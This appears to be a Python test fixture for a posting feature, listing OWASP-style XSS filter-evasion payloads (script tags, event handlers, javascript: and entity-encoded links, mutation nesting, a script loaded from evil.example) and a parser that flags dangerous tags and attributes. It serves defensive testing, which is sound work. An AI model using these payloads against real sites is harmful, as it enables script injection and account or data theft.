"""Hostile posts: script tags, event handlers, javascript: links, CSS tricks and the
classic filter-evasion payloads (OWASP XSS filter evasion cheat sheet). Each one, if
it ran, would set ``window.__pwned`` or open a dialog: the browser test checks
neither happened."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "<IMG SRC=\"javascript:window.__pwned=1\">",
    "<a href=\"javascript:window.__pwned=1\">click me</a>",
    "<a href=\"jav&#x09;ascript:window.__pwned=1\">tab-split scheme</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1\">entities</a>",
    "<svg/onload=window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<iframe src=\"javascript:window.__pwned=1\"></iframe>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay</div>",
    "<style>body{display:none}</style>",
    "<div style=\"background-image:url(javascript:window.__pwned=1)\">css url</div>",
    "\"><script>window.__pwned=1</script>",
    "'';!--\"<XSS>=&{()}",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<details open ontoggle=window.__pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<form action=\"javascript:window.__pwned=1\"><button>go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned=1\">",
    "<base href=\"https://evil.example/\">",
    "<object data=\"javascript:window.__pwned=1\"></object>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<a href=\"https://ok.example\" onclick=\"window.__pwned=1\" style=\"color:red\">styled link</a>",
    "\u202eevil\u202c <!--<img src=x onerror=window.__pwned=1>-->",
)


FORBIDDEN_TAGS = {"script", "img", "svg", "iframe", "style", "math", "meta", "base", "object", "embed", "body",
                  "mtext", "mglyph", "xss", "link", "frame", "frameset", "video", "audio", "template"}


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"{name}= attribute on <{tag}>")
            if name in ("href", "src", "action", "data") and value and not (
                    value.startswith(("/", "#", "https://", "http://"))):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if tag == "form" and name == "action" and not value.startswith("/"):
                self.problems.append(f"form posting to {value!r}")


def active_content(html: str) -> list[str]:
    """Every element or attribute in ``html`` that could run code or restyle the page."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems
